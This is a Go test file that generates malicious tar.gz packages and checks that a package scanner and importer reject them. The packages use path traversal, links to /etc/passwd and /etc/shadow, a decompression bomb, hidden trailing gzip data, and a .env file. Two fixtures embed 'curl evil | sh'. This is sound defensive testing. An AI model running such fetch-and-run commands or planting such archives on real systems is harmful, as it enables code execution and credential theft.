package packages

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite testdata/bad/*.tgz from badArchives")

// badCase is one malicious or broken archive and the reason Scan must give.
type badCase struct {
	name string
	want Reason
	make func(t testing.TB) []byte
}

// withFlow is a manifest listing flow.json (and extra files) followed by
// flow.json and then the entries given, which the manifest may not list.
func withFlow(listed map[string][]byte, edit func(*Manifest), more ...entry) func(t testing.TB) []byte {
	return func(t testing.TB) []byte {
		files := map[string][]byte{"flow.json": []byte(helloFlow)}
		for p, b := range listed {
			files[p] = b
		}
		es := []entry{{name: ManifestName, body: manifestOf(t, files, edit)}, {name: "flow.json", body: []byte(helloFlow)}}
		return craft(t, append(es, more...), tar.FormatPAX, nil)
	}
}

// badArchives is every archive in testdata/bad, made here so they can be
// made again (go test ./packages -run TestMaliciousArchives -update).
var badArchives = []badCase{
	{"traversal", ReasonUnsafePath, withFlow(nil, nil, entry{name: "../../.bashrc", body: []byte("evil")})},
	{"traversal-inside", ReasonUnsafePath, withFlow(nil, nil, entry{name: "prompts/../../evil", body: []byte("evil")})},
	{"absolute", ReasonUnsafePath, withFlow(nil, nil, entry{name: "/etc/cron.d/evil", body: []byte("evil")})},
	{"drive-letter", ReasonUnsafePath, withFlow(nil, nil, entry{name: "C:/Windows/evil.dll", body: []byte("evil")})},
	{"backslash", ReasonUnsafePath, withFlow(nil, nil, entry{name: `..\..\evil`, body: []byte("evil")})},
	{"symlink", ReasonSymlink, withFlow(nil, nil, entry{name: "passwd", typ: tar.TypeSymlink, link: "/etc/passwd"})},
	{"hardlink", ReasonHardLink, withFlow(nil, nil, entry{name: "shadow", typ: tar.TypeLink, link: "/etc/shadow"})},
	{"device", ReasonSpecialFile, withFlow(nil, nil, entry{name: "disk", typ: tar.TypeBlock})},
	{"char-device", ReasonSpecialFile, withFlow(nil, nil, entry{name: "tty", typ: tar.TypeChar})},
	{"fifo", ReasonSpecialFile, withFlow(nil, nil, entry{name: "pipe", typ: tar.TypeFifo})},
	{"directory-entry", ReasonSpecialFile, withFlow(nil, nil, entry{name: "prompts", typ: tar.TypeDir})},
	{"pax-global", ReasonSpecialFile, withFlow(nil, nil, entry{name: "global", typ: tar.TypeXGlobalHeader})},
	{"duplicate", ReasonDuplicate, withFlow(nil, nil, entry{name: "flow.json", body: []byte(helloFlow)})},
	{"case-collision", ReasonCaseCollision, withFlow(map[string][]byte{"README.md": []byte("a"), "readme.md": []byte("b")}, nil,
		entry{name: "README.md", body: []byte("a")}, entry{name: "readme.md", body: []byte("b")})},
	{"file-then-folder", ReasonCaseCollision, withFlow(map[string][]byte{"notes": []byte("a"), "notes/b": []byte("b")}, nil,
		entry{name: "notes", body: []byte("a")}, entry{name: "notes/b", body: []byte("b")})},
	{"unlisted", ReasonUnlisted, withFlow(nil, nil, entry{name: "extra.sh", body: []byte("#!/bin/sh\n")})},
	{"missing", ReasonMissingFile, withFlow(map[string][]byte{"README.md": []byte("listed")}, nil)},
	{"digest-mismatch", ReasonDigestMismatch, withFlow(map[string][]byte{"README.md": []byte("listed")}, nil, entry{name: "README.md", body: []byte("LISTED")})},
	{"size-mismatch", ReasonSizeMismatch, withFlow(map[string][]byte{"README.md": []byte("listed")}, nil, entry{name: "README.md", body: []byte("listed!")})},
	{"bomb", ReasonBomb, func(t testing.TB) []byte {
		zeros := make([]byte, 20<<20)
		return withFlow(map[string][]byte{"zeros.bin": zeros}, nil, entry{name: "zeros.bin", body: zeros})(t)
	}},
	{"non-utf8-name", ReasonBadName, withFlow(nil, nil, entry{name: "caf\xe9.txt", body: []byte("x")})},
	{"name-too-long", ReasonNameTooLong, withFlow(nil, nil, entry{name: strings.Repeat("a", 300), body: []byte("x")})},
	{"too-deep", ReasonTooDeep, withFlow(nil, nil, entry{name: strings.Repeat("d/", 20) + "f", body: []byte("x")})},
	{"forged-record", ReasonReservedPath, withFlow(nil, nil, entry{name: ".symphonix/package.json", body: []byte(`{"name":"acme/bank"}`)})},
	{"env-file", ReasonReservedPath, withFlow(nil, nil, entry{name: ".env", body: []byte("TOKEN=x")})},
	{"invalid-flow", ReasonInvalidFlow, func(t testing.TB) []byte {
		bad := []byte(`{"version":"0.17","nodes":[{"id":"a","type":"nope"}],"edges":[],"start":"a"}`)
		m := manifestOf(t, map[string][]byte{"flow.json": bad}, func(m *Manifest) { m.Requires = Requires{MCP: []string{}, Inputs: []string{}, Secrets: []string{}} })
		return craft(t, []entry{{name: ManifestName, body: m}, {name: "flow.json", body: bad}}, tar.FormatPAX, nil)
	}},
	{"requires-mismatch", ReasonRequiresMismatch, withFlow(nil, func(m *Manifest) { m.Requires.Secrets = []string{} })},
	{"unknown-field", ReasonBadManifest, func(t testing.TB) []byte {
		m := manifestOf(t, map[string][]byte{"flow.json": []byte(helloFlow)}, nil)
		m = append([]byte(`{"aaa_hook":"curl evil | sh",`), m[1:]...)
		return craft(t, []entry{{name: ManifestName, body: m}, {name: "flow.json", body: []byte(helloFlow)}}, tar.FormatPAX, nil)
	}},
	{"manifest-not-canonical", ReasonBadManifest, func(t testing.TB) []byte {
		m := append(manifestOf(t, map[string][]byte{"flow.json": []byte(helloFlow)}, nil), '\n')
		return craft(t, []entry{{name: ManifestName, body: m}, {name: "flow.json", body: []byte(helloFlow)}}, tar.FormatPAX, nil)
	}},
	{"bad-version", ReasonBadManifest, withFlow(nil, func(m *Manifest) { m.Version = "01.2.3" })},
	{"manifest-not-first", ReasonManifestFirst, func(t testing.TB) []byte {
		m := manifestOf(t, map[string][]byte{"flow.json": []byte(helloFlow)}, nil)
		return craft(t, []entry{{name: "flow.json", body: []byte(helloFlow)}, {name: ManifestName, body: m}}, tar.FormatPAX, nil)
	}},
	{"empty", ReasonManifestFirst, func(t testing.TB) []byte { return craft(t, nil, tar.FormatPAX, nil) }},
	{"hidden-after-end", ReasonTrailingData, func(t testing.TB) []byte {
		good := withFlow(nil, nil)(t)
		// A second gzip member with a tar entry of its own: readers that
		// stop at the first end-of-archive never see it.
		return append(good, craft(t, []entry{{name: "hidden.sh", body: []byte("evil")}}, tar.FormatPAX, nil)...)
	}},
	{"garbage-after-end", ReasonTrailingData, func(t testing.TB) []byte {
		return append(withFlow(nil, nil)(t), "PK\x03\x04 a zip glued on"...)
	}},
	{"not-gzip", ReasonNotGzip, func(t testing.TB) []byte { return []byte("PK\x03\x04 not a gzip stream at all") }},
	// Bytes no digest covers: in the gzip header, or in a second gzip
	// member that holds no data.
	{"gzip-extra", ReasonGzipHeader, func(t testing.TB) []byte {
		return regzip(t, withFlow(nil, nil)(t), gzip.Header{Extra: bytes.Repeat([]byte("hidden "), 100)})
	}},
	{"gzip-name-comment", ReasonGzipHeader, func(t testing.TB) []byte {
		return regzip(t, withFlow(nil, nil)(t), gzip.Header{Name: "run-me.sh", Comment: "curl evil | sh"})
	}},
	{"gzip-time", ReasonGzipHeader, func(t testing.TB) []byte {
		return regzip(t, withFlow(nil, nil)(t), gzip.Header{ModTime: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)})
	}},
	{"gzip-empty-member", ReasonTrailingData, func(t testing.TB) []byte {
		var b bytes.Buffer
		zw := gzip.NewWriter(&b)
		zw.Extra = bytes.Repeat([]byte("hidden "), 100)
		if err := zw.Close(); err != nil {
			t.Fatal(err)
		}
		return append(withFlow(nil, nil)(t), b.Bytes()...)
	}},
}

// regzip is data gunzipped and gzipped again with the header given.
func regzip(t testing.TB, data []byte, h gzip.Header) []byte {
	t.Helper()
	var raw, b bytes.Buffer
	if err := gunzipTo(&raw, data); err != nil {
		t.Fatal(err)
	}
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	zw.Header = h
	if _, err := zw.Write(raw.Bytes()); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestMaliciousArchives(t *testing.T) {
	t.Parallel()
	if len(badArchives) < 15 {
		t.Fatalf("%d malicious archives, want at least 15", len(badArchives))
	}
	for _, c := range badArchives {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			file := filepath.Join("testdata", "bad", c.name+".tgz")
			made := c.make(t)
			if *update {
				if err := os.WriteFile(file, made, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			data, err := os.ReadFile(file)
			if err != nil {
				t.Fatalf("%v (make it with -update)", err)
			}
			if !sameArchive(data, made) {
				t.Errorf("%s is not what the generator makes now: run go test ./packages -run TestMaliciousArchives -update", file)
			}
			p, err := Scan(bytes.NewReader(data), Limits{})
			if got := ReasonOf(err); got != c.want {
				t.Fatalf("Scan(%s) = %v, %v; want reason %s", c.name, p, err, c.want)
			}
			// Import refuses it too, and leaves nothing behind.
			parent := t.TempDir()
			if _, err := Import(bytes.NewReader(data), filepath.Join(parent, "agent"), Limits{}); ReasonOf(err) != c.want {
				t.Errorf("Import(%s) = %v, want reason %s", c.name, err, c.want)
			}
			if left, _ := os.ReadDir(parent); len(left) != 0 {
				t.Errorf("Import(%s) left %d entries in the parent folder", c.name, len(left))
			}
		})
	}
}

// sameArchive compares two archives by what they hold once gunzipped, so
// a change in how compress/flate compresses does not fail the test; bytes
// that are not all gzip are compared as they are.
func sameArchive(a, b []byte) bool {
	var ra, rb bytes.Buffer
	if gunzipTo(&ra, a) != nil || gunzipTo(&rb, b) != nil {
		return bytes.Equal(a, b)
	}
	return bytes.Equal(ra.Bytes(), rb.Bytes())
}
